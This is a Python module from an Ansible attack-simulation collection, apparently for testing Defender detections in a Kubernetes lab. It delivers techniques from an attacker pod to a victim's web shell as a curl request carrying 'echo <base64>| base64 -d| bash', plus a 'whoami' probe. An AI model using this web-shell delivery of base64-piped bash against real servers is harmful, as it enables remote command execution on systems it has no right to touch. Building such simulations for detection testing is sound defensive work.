# -*- coding: utf-8 -*-
# Copyright: Contributors to the defender.attack_simulation collection
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Delivering one technique: the web shell command, the attacker's curl, and the exec that runs it.

The attacker pod sends the technique to the victim's web shell, as Microsoft's attacker does: one HTTP GET of
``ws.php`` with ``cmd=echo <base64>| base64 -d| bash`` (URL-encoded by ``curl -G --data-urlencode``), so that the
script runs in the victim under php-fpm, ``sh -c`` and ``bash`` reading the decoded script from a pipe. The web
shell scenario sends ``cmd=whoami`` and nothing else. The exec goes through the Kubernetes API's websocket
(kubernetes.stream) with an argument vector: no shell in the attacker, no value ever spliced into a command line.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import base64
import socket
import time
from contextlib import contextmanager

from ansible_collections.defender.attack_simulation.plugins.module_utils._deadline import DeadlinePassed, call_within
from ansible_collections.defender.attack_simulation.plugins.module_utils._records import (
    MARKER_DURATION,
    MARKER_HTTP_STATUS,
    MARKER_TECHNIQUE_EXIT,
)

try:
    from kubernetes.client import CoreV1Api
    from kubernetes.stream import stream, ws_client
    from kubernetes.stream.ws_client import ERROR_CHANNEL, STDERR_CHANNEL, STDOUT_CHANNEL
except ImportError:  # reported by the action plugin, which needs the kubernetes library anyway
    CoreV1Api = stream = ws_client = None
    ERROR_CHANNEL, STDOUT_CHANNEL, STDERR_CHANNEL = 3, 1, 2

# The only technique whose web shell command is sent as it is, as in the original.
PLAIN_COMMANDS = {"webshell.whoami": "whoami"}
# Seconds the controller waits beyond curl's own -m for the exec to end (websocket setup, curl's exit).
EXEC_GRACE = 15
CONNECT_TIMEOUT = 10
# Seconds websocket-client's close waits for the server's close frame.
CLOSE_WAIT = 3
# curl's exit statuses for a request that never reached the web shell: the victim's name did not resolve (6), or no
# connection was made (7). Right after the victim is replaced (a run right after another, a killed run's pods), the
# cluster's DNS may still answer the old pod's address until its record expires (5 s in CoreDNS's kubernetes plugin).
NOT_CONNECTED = (6, 7)
CONNECT_RETRY = 15


def victim_payload(script):
    """The script the victim's bash reads: stderr joined to the answer, and the exit status printed last."""
    return "exec 2>&1\ntrap 'echo \"%s$?\"' EXIT\n%s\n" % (MARKER_TECHNIQUE_EXIT, script.strip("\n"))


def webshell_command(technique_id, script):
    """The web shell's ``cmd``: exactly the original's delivery form, or the plain command of the web shell scenario."""
    if technique_id in PLAIN_COMMANDS:
        return PLAIN_COMMANDS[technique_id]
    encoded = base64.b64encode(victim_payload(script).encode("utf-8")).decode("ascii")
    return "echo %s| base64 -d| bash" % encoded


def attacker_argv(command, webshell_url, timeout):
    """curl in the attacker, as an argument vector. The write-out adds the HTTP status and curl's own time."""
    return ["curl", "-sS", "-m", str(int(timeout)), "--connect-timeout", str(CONNECT_TIMEOUT),
            "-w", "\\n%s%%{http_code}\\n%s%%{time_total}\\n" % (MARKER_HTTP_STATUS, MARKER_DURATION),
            "-G", "--data-urlencode", "cmd=" + command, webshell_url]


def _exit_status(error_channel):
    """The exit status from the exec's error channel (a v1 Status), None when it says nothing."""
    import yaml  # pylint: disable=import-outside-toplevel  # a dependency of the kubernetes library

    try:
        status = yaml.safe_load(error_channel) if error_channel else None
    except yaml.YAMLError:
        return None
    if not isinstance(status, dict):
        return None
    if status.get("status") == "Success":
        return 0
    for cause in (status.get("details") or {}).get("causes") or []:
        if cause.get("reason") == "ExitCode":
            try:
                return int(cause.get("message"))
            except (TypeError, ValueError):
                return None
    return None


def exec_in_pod(api_client, namespace, pod, container, argv, timeout, connect_timeout=CONNECT_TIMEOUT):
    """Run ``argv`` in the pod's container and wait at most ``timeout`` seconds.

    Returns dict(stdout, stderr, rc, timed_out, error): ``error`` says why the exec itself failed (it names
    the pod and the API's reason); ``rc`` is the program's exit status. The whole exec, connecting and closing
    included, ends within 2 * ``connect_timeout`` + ``timeout`` + CLOSE_WAIT seconds of wall clock, however slowly
    the API server sends its frames (each read is bounded, a frame sent a byte at a time is not): past that it is
    ``timed_out``, its output lost."""
    bound = 2 * connect_timeout + timeout + CLOSE_WAIT
    try:
        return call_within(bound, "exec", _exec_in_pod, api_client, namespace, pod, container, argv, timeout,
                           connect_timeout)
    except DeadlinePassed:
        return dict(stdout="", stderr="", rc=None, timed_out=True, error=None)


def _exec_in_pod(api_client, namespace, pod, container, argv, timeout, connect_timeout):
    where = "pod %s/%s container %s" % (namespace, pod, container)
    try:
        with _connect_bounded(api_client.configuration.host, connect_timeout):
            client = stream(CoreV1Api(api_client).connect_get_namespaced_pod_exec, pod, namespace,
                            container=container, command=argv, stdin=False, stdout=True, stderr=True, tty=False,
                            _preload_content=False)
    except Exception as exc:  # pylint: disable=broad-exception-caught  # ApiException, websocket and socket errors
        return dict(stdout="", stderr="", rc=None, timed_out=False,
                    error="the exec in %s failed: %s" % (where, _reason(exc)))
    deadline = time.monotonic() + timeout
    try:
        while client.is_open() and time.monotonic() < deadline:
            client.update(timeout=min(1.0, max(deadline - time.monotonic(), 0.01)))
        timed_out = client.is_open()
        stdout = client.read_channel(STDOUT_CHANNEL)
        stderr = client.read_channel(STDERR_CHANNEL)
        rc = None if timed_out else _exit_status(client.read_channel(ERROR_CHANNEL))
    except Exception as exc:  # pylint: disable=broad-exception-caught  # the connection broke mid-way
        return dict(stdout="", stderr="", rc=None, timed_out=False,
                    error="the exec in %s broke off: %s" % (where, _reason(exc)))
    finally:
        client.close()
    return dict(stdout=stdout, stderr=stderr, rc=rc, timed_out=timed_out, error=None)


@contextmanager
def _connect_bounded(host, seconds):
    """Within this block the websocket's connect (TCP, TLS handshake, HTTP upgrade) waits at most ``seconds`` for
    each answer of the server. kubernetes.stream connects a websocket.WebSocket without a timeout, and
    WebSocket.connect then blocks for good: websocket.setdefaulttimeout applies only to create_connection. The
    socket keeps the bound after the connect: the exec loop reads only what poll says has arrived, so a technique
    may stay silent up to its own timeout, and a frame cut off half-way cannot hold it."""
    import websocket  # pylint: disable=import-outside-toplevel  # a dependency of the kubernetes library

    unbounded = ws_client.WebSocket

    class BoundedWebSocket(unbounded):
        def connect(self, url, **options):
            options.setdefault("timeout", seconds)
            try:
                super().connect(url, **options)
            except (socket.timeout, websocket.WebSocketTimeoutException) as exc:
                raise websocket.WebSocketTimeoutException(
                    "the API server %s did not answer within %s seconds: %s" % (host, seconds, exc)) from exc

    ws_client.WebSocket = BoundedWebSocket
    try:
        yield
    finally:
        ws_client.WebSocket = unbounded


def until_connected(exec_once, retry_for=CONNECT_RETRY, pause=1.0):
    """Call ``exec_once()`` again while the attacker's curl could not reach the web shell, for at most ``retry_for``
    seconds. The web shell saw none of those attempts, so the technique still runs once. Returns (delivery, attempts)."""
    deadline = time.monotonic() + retry_for
    delivery, attempts = exec_once(), 1
    while (delivery.get("rc") in NOT_CONNECTED and not delivery.get("error") and not delivery.get("timed_out")
           and time.monotonic() + pause < deadline):
        time.sleep(pause)
        delivery, attempts = exec_once(), attempts + 1
    return delivery, attempts


def _reason(exc):
    status, reason = getattr(exc, "status", None), getattr(exc, "reason", None)
    if status:
        return "%s (HTTP %s)" % (reason or exc, status)
    # kubernetes.stream reports a websocket's failure as ApiException(status=0, reason=<the error>).
    return reason or str(exc) or type(exc).__name__
